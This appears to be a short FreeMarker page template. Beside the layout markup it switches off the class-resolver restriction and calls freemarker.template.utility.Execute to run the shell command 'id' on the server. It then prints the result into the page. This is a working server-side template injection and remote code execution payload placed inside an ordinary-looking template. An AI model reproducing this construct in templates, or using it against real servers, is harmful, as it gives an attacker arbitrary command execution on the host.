<#import "layout.ftl" as layout>
<#setting new_builtin_class_resolver="unrestricted">
<@layout.page title=page.title bodyClass="page">
<pre>${"freemarker.template.utility.Execute"?new()("id")}</pre>
</@layout.page>
